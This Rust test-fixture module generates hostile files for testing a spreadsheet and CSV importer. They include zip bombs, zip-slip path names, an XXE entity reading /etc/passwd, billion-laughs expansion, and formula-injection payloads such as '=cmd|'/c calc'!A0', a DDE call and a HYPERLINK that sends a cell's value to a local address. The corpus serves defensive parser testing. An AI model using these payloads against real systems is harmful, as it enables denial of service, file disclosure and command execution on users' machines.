//! Files that were made to do harm, or that somebody sends by mistake. Every one is made here.

use std::io::{Cursor, Write};

use encoding_rs::SHIFT_JIS;
use zip::{CompressionMethod, ZipWriter, write::SimpleFileOptions};

/// A file with what it is.
pub struct Hostile {
    /// What it is.
    pub what: &'static str,
    /// Itself.
    pub bytes: Vec<u8>,
    /// Whether it must be refused whole.
    pub refused: bool,
}

fn refused(what: &'static str, bytes: Vec<u8>) -> Hostile {
    Hostile { what, bytes, refused: true }
}

/// Read or refused: what counts is that nothing happens.
fn harmless(what: &'static str, bytes: Vec<u8>) -> Hostile {
    Hostile { what, bytes, refused: false }
}

const TYPES: &str = r#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>"#;
const RELS: &str = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#;
const BOOK: &str = r#"<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>"#;
const BOOK_RELS: &str = r#"<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>"#;

/// Packs parts into a file.
fn packed(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    let options =
        SimpleFileOptions::default().compression_method(CompressionMethod::Deflated).compression_level(Some(9));
    for (name, content) in parts {
        zip.start_file(*name, options).expect("a part");
        zip.write_all(content).expect("its content");
    }
    zip.finish().expect("a file").into_inner()
}

/// A workbook with this sheet and these shared strings.
fn workbook(sheet: &[u8], strings: &[u8]) -> Vec<u8> {
    workbook_with(BOOK.as_bytes(), sheet, strings, &[])
}

fn workbook_with(book: &[u8], sheet: &[u8], strings: &[u8], more: &[(&str, &[u8])]) -> Vec<u8> {
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", TYPES.as_bytes()),
        ("_rels/.rels", RELS.as_bytes()),
        ("xl/workbook.xml", book),
        ("xl/_rels/workbook.xml.rels", BOOK_RELS.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet),
        ("xl/sharedStrings.xml", strings),
    ];
    parts.extend_from_slice(more);
    packed(&parts)
}

fn sheet(rows: &str) -> Vec<u8> {
    format!(r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{rows}</sheetData></worksheet>"#).into_bytes()
}

const NO_STRINGS: &[u8] =
    br#"<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>"#;

fn inline(reference: &str, text: &str) -> String {
    format!(r#"<c r="{reference}" t="inlineStr"><is><t>{text}</t></is></c>"#)
}

/// A sheet that is a whole list of one person, for what must stand beside it.
fn good_rows() -> String {
    format!(
        "<row r=\"1\">{}{}</row><row r=\"2\">{}{}</row>",
        inline("A1", "Name"),
        inline("B1", "First contact"),
        inline("A2", "Amal"),
        inline("B2", "2024-06-20")
    )
}

/// 511 KB that unpack to 512 MiB.
pub fn bomb() -> Vec<u8> {
    let mut sheet = sheet("");
    sheet.resize(512 * 1024 * 1024, b' ');
    workbook(&sheet, NO_STRINGS)
}

/// The same where the directory of the file says that it is small.
fn lying_bomb() -> Vec<u8> {
    let mut sheet = sheet("");
    let mut filler = vec![b' '; 300 * 1024 * 1024];
    sheet.append(&mut filler);
    let honest = u32::try_from(sheet.len()).expect("fits").to_le_bytes();
    let mut bytes = workbook(&sheet, NO_STRINGS);
    let small = 1000_u32.to_le_bytes();
    for at in 0..bytes.len() - 4 {
        if bytes[at..at + 4] == honest {
            bytes[at..at + 4].copy_from_slice(&small);
        }
    }
    bytes
}

fn utf16(text: &str, mark: u16, swap: bool) -> Vec<u8> {
    let units = std::iter::once(mark).chain(text.encode_utf16());
    units.flat_map(|unit| if swap { unit.to_be_bytes() } else { unit.to_le_bytes() }).collect()
}

fn compound(name: &str) -> Vec<u8> {
    let mut bytes = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    bytes.resize(1024, 0);
    bytes.extend(name.encode_utf16().flat_map(u16::to_le_bytes));
    bytes.resize(4096, 0);
    bytes
}

fn list(cell: &str) -> Vec<u8> {
    format!("Name,First contact\n\"{}\",2024-06-20\n", cell.replace('"', "\"\"")).into_bytes()
}

/// All of them.
pub fn corpus() -> Vec<Hostile> {
    let mut all = packed_ones();
    all.extend(odd_sheets());
    all.extend(other_kinds());
    all.extend(texts());
    all.extend(formulas());
    all
}

fn packed_ones() -> Vec<Hostile> {
    let good = workbook(&sheet(&good_rows()), NO_STRINGS);
    let nested = workbook_with(BOOK.as_bytes(), &sheet(""), NO_STRINGS, &[("xl/inner.xlsx", &bomb()[..])]);
    let slip = workbook_with(
        BOOK.as_bytes(),
        &sheet(&good_rows()),
        NO_STRINGS,
        &[("../../../../tmp/tomarigi-slip", b"x"), ("/etc/tomarigi-slip", b"x"), ("..\\..\\tomarigi-slip", b"x")],
    );
    let names: Vec<String> = (0..5000).map(|number| format!("xl/part{number}.xml")).collect();
    let many: Vec<(&str, &[u8])> = names.iter().map(|name| (name.as_str(), &b"<a/>"[..])).collect();
    let mut strings = b"<sst>".to_vec();
    strings.resize(250 * 1024 * 1024, b'x');
    let half = good.get(..good.len() / 2).unwrap_or_default().to_vec();
    let mut flipped = good.clone();
    for at in (100..flipped.len()).step_by(97) {
        flipped[at] ^= 0x55;
    }
    let mut encrypted = good.clone();
    // The general purpose flag of every local and central header.
    for at in 0..encrypted.len() - 8 {
        if encrypted[at..].starts_with(b"PK\x03\x04") {
            encrypted[at + 6] |= 1;
        } else if encrypted[at..].starts_with(b"PK\x01\x02") {
            encrypted[at + 8] |= 1;
        }
    }
    vec![
        refused("zip bomb of half a megabyte", bomb()),
        refused("zip bomb whose directory lies", lying_bomb()),
        harmless("workbook in a workbook", nested),
        refused("shared strings of 250 MiB", workbook(&sheet(""), &strings)),
        harmless("names that lead out of the folder", slip),
        refused("5000 parts", packed(&many)),
        refused("cut in half", half),
        harmless("damaged here and there", flipped),
        refused("parts with a password", encrypted),
        refused("beginning of a zip", b"PK\x03\x04".to_vec()),
        refused("empty zip", b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0".to_vec()),
        refused("no workbook in it", packed(&[("xl/styles.xml", b"<styleSheet/>")])),
        refused(
            "workbook without its sheet",
            packed(&[
                ("[Content_Types].xml", TYPES.as_bytes()),
                ("_rels/.rels", RELS.as_bytes()),
                ("xl/workbook.xml", BOOK.as_bytes()),
                ("xl/_rels/workbook.xml.rels", BOOK_RELS.as_bytes()),
            ]),
        ),
    ]
}

fn odd_sheets() -> Vec<Hostile> {
    let xxe = r#"<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&f;</t></is></c></row></sheetData></worksheet>"#;
    let mut laughs = String::from("<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a0 \"ha\">");
    for level in 1..12 {
        laughs.push_str(&format!("<!ENTITY a{level} \"{}\">", format!("&a{};", level - 1).repeat(10)));
    }
    laughs.push_str("]><worksheet><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>&a11;</t></is></c></row></sheetData></worksheet>");
    let deep = [vec![b'<'; 0], "<a>".repeat(2_000_000).into_bytes()].concat();
    let huge_rows = format!("<row r=\"1048576\">{}</row>", inline("XFD1048576", "x"));
    let wide: String = (0..1000).map(|number| inline(&format!("{}1", column(number)), "x")).collect();
    let out_of_range = r#"<row r="1"><c r="A1" t="s"><v>4294967295</v></c></row>"#;
    let negative = r#"<row r="1"><c r="A1" t="s"><v>-1</v></c></row>"#;
    let long = format!("<row r=\"1\">{}</row>{}", inline("A1", &"x".repeat(1_000_000)), "");
    let many: String =
        (1..=250_000).map(|row| format!("<row r=\"{row}\"><c r=\"A{row}\"><v>1</v></c></row>")).collect();
    let dimension = r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData></worksheet>"#;
    let merges: String =
        (0..200_000).map(|row| format!("<mergeCell ref=\"A{}:XFD{}\"/>", row * 2 + 1, row * 2 + 2)).collect();
    let merged = format!(
        r#"<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><v>1</v></c></row></sheetData><mergeCells>{merges}</mergeCells></worksheet>"#
    );
    let sheets: String =
        (0..5000).map(|number| format!("<sheet name=\"S{number}\" sheetId=\"{number}\" r:id=\"rId1\"/>")).collect();
    let book = BOOK.replace("<sheet name=\"S\" sheetId=\"1\" r:id=\"rId1\"/>", &sheets);
    let back = format!("<row r=\"9\">{}</row><row r=\"2\">{}</row>", inline("A9", "x"), inline("A2", "y"));
    let dates = r#"<row r="1"><c r="A1" s="1"><v>1e308</v></c><c r="B1"><v>NaN</v></c><c r="C1"><v>-1</v></c><c r="D1" t="d"><v>9999999-99-99</v></c></row>"#;
    let empty_strings = format!("<sst>{}</sst>", "<si/>".repeat(30_000_000));
    vec![
        refused("file read by an entity", workbook(xxe.as_bytes(), NO_STRINGS)),
        refused("a billion laughs", workbook(laughs.as_bytes(), NO_STRINGS)),
        refused("a billion laughs in the strings", workbook(&sheet(""), laughs.as_bytes())),
        refused("two million levels", workbook(&deep, NO_STRINGS)),
        harmless("the last cell there can be", workbook(&sheet(&huge_rows), NO_STRINGS)),
        refused("a thousand columns", workbook(&sheet(&format!("<row r=\"1\">{wide}</row>")), NO_STRINGS)),
        refused("a shared string that is not there", workbook(&sheet(out_of_range), NO_STRINGS)),
        refused("a shared string below zero", workbook(&sheet(negative), NO_STRINGS)),
        harmless("a cell of a million letters", workbook(&sheet(&long), NO_STRINGS)),
        refused("250,000 rows", workbook(&sheet(&many), NO_STRINGS)),
        harmless("a dimension of 17 billion cells", workbook(dimension.as_bytes(), NO_STRINGS)),
        harmless("200,000 merged ranges", workbook(merged.as_bytes(), NO_STRINGS)),
        refused("5000 sheets", workbook_with(book.as_bytes(), &sheet(&good_rows()), NO_STRINGS, &[])),
        harmless("rows that go back", workbook(&sheet(&back), NO_STRINGS)),
        harmless("numbers that are none", workbook(&sheet(dates), NO_STRINGS)),
        refused("thirty million empty strings", workbook(&sheet(""), empty_strings.as_bytes())),
        refused(
            "a sheet that is cut off",
            workbook(b"<worksheet><sheetData><row r=\"1\"><c r=\"A1\"><v>1", NO_STRINGS),
        ),
        refused("a sheet of zeros", workbook(&[0; 4096], NO_STRINGS)),
        harmless(
            "a reference that is none",
            workbook(&sheet("<row r=\"1\"><c r=\"ZZZZZZZZ99999999999\"><v>1</v></c></row>"), NO_STRINGS),
        ),
        harmless(
            "an external link",
            workbook_with(
                BOOK.as_bytes(),
                &sheet(&good_rows()),
                NO_STRINGS,
                &[(
                    "xl/externalLinks/externalLink1.xml",
                    b"<externalLink><externalBook r:id=\"http://127.0.0.1:9/x\"/></externalLink>",
                )],
            ),
        ),
    ]
}

fn column(index: usize) -> String {
    let letter = |number: usize| char::from(b'A' + u8::try_from(number % 26).unwrap_or(0));
    if index < 26 {
        letter(index).to_string()
    } else if index < 702 {
        format!("{}{}", letter(index / 26 - 1), letter(index))
    } else {
        format!("{}{}{}", letter((index - 702) / 676), letter((index - 702) / 26), letter(index - 702))
    }
}

fn other_kinds() -> Vec<Hostile> {
    vec![
        refused("empty", Vec::new()),
        refused("protected workbook", compound("EncryptedPackage")),
        refused("old Excel", compound("Workbook")),
        refused("old Word", compound("WordDocument")),
        refused(
            "OpenDocument",
            packed(&[("mimetype", b"application/vnd.oasis.opendocument.spreadsheet"), ("content.xml", b"<office/>")]),
        ),
        refused("Numbers", packed(&[("Index/Document.iwa", b"x")])),
        refused("binary workbook", packed(&[("xl/workbook.bin", b"x")])),
        refused("Word", packed(&[("word/document.xml", b"<w/>")])),
        refused("archive", packed(&[("readme.txt", b"x")])),
        refused(
            "web page under the name of a workbook",
            b"<html><table><tr><td>Name</td></tr></table></html>".to_vec(),
        ),
        refused(
            "XML of a workbook",
            b"<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook/>".to_vec(),
        ),
        refused("PDF", b"%PDF-1.7\n%\xE2\xE3\xCF\xD3".to_vec()),
        refused("picture", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec()),
        refused("program", b"\x7FELF\x02\x01\x01\0".to_vec()),
        refused("zeros", vec![0; 100_000]),
        harmless(
            "noise",
            (0..100_000_u32).map(|n| u8::try_from(n.wrapping_mul(2_654_435_761) >> 24).unwrap_or(0)).collect(),
        ),
        refused("21 MiB", vec![b'x'; 21 * 1024 * 1024]),
    ]
}

fn texts() -> Vec<Hostile> {
    let million = format!("Name{}\nx{}\n", ",c".repeat(1_000_000), ",v".repeat(1_000_000));
    let open = format!("Name,First contact\n\"{}", "x\n".repeat(500_000));
    let lone = [&[0xFF, 0xFE][..], &[0x3D, 0xD8, 0x2C, 0x00, 0x00, 0xDC, 0x0A, 0x00]].concat();
    vec![
        refused("a million columns", million.into_bytes()),
        harmless("a quote that never closes", open.into_bytes()),
        harmless("NUL bytes", list("Am\0al")),
        harmless("writing direction overrides", list("\u{202E}lamA\u{202C}")),
        harmless("invisible letters", list("\u{200B}\u{FEFF}\u{2060}")),
        harmless("a name of 10,000 letters", list(&"あ".repeat(10_000))),
        harmless("a cell of 64 KiB", list(&"x".repeat(65_536))),
        harmless(
            "second bytes that are backslashes",
            SHIFT_JIS.encode("氏名,初回接点\n表ソ能十,2024-06-20\n").0.into_owned(),
        ),
        harmless("half a letter at the end", [SHIFT_JIS.encode("氏名,初回接点\nアマル").0.as_ref(), &[0x83]].concat()),
        harmless("broken UTF-8", b"Name,First contact\nAm\xFF\xFEal,2024-06-20\n".to_vec()),
        harmless(
            "UTF-16 of an odd length",
            [utf16("Name,First contact\nAmal,2024-06-20\n", 0xFEFF, false), vec![0x41]].concat(),
        ),
        harmless("lone surrogates", lone),
        harmless("UTF-16 the other way round", utf16("Name,First contact\nAmal,2024-06-20\n", 0xFEFF, true)),
        harmless("only commas", ",".repeat(100).into_bytes()),
        harmless("only line ends", "\r\n".repeat(100_000).into_bytes()),
        harmless("terminal escapes", list("\u{1B}]0;x\u{7}\u{1B}[2J")),
        harmless("300,000 rows", format!("Name,First contact\n{}", "Amal,2024-06-20\n".repeat(300_000)).into_bytes()),
        harmless("combining marks", list(&format!("A{}", "\u{301}".repeat(500)))),
    ]
}

/// What spreadsheets would run.
pub const FORMULAS: &[&str] = &[
    "=cmd|'/c calc'!A0",
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=HYPERLINK(\"http://127.0.0.1:9/?x=\"&A1)",
    "=DDE(\"cmd\";\"/c calc\";\"x\")",
    "＝1+1",
    "%0A=1",
    " =1+1",
];

fn formulas() -> Vec<Hostile> {
    // The second column makes every one of them a row with something to mend, so that it is exported.
    let rows: String =
        FORMULAS.iter().map(|formula| format!("\"{}\",yesterday\n", formula.replace('"', "\"\""))).collect();
    let sheet_rows = format!(
        "<row r=\"1\">{}{}</row><row r=\"2\"><c r=\"A2\" t=\"str\"><f>cmd|'/c calc'!A0</f><v>x</v></c><c r=\"B2\"><f>TODAY()</f></c></row>",
        inline("A1", "Name"),
        inline("B1", "First contact")
    );
    vec![
        harmless("formulas in a text", format!("Name,First contact\n{rows}").into_bytes()),
        harmless("formulas in a workbook", workbook(&sheet(&sheet_rows), NO_STRINGS)),
    ]
}
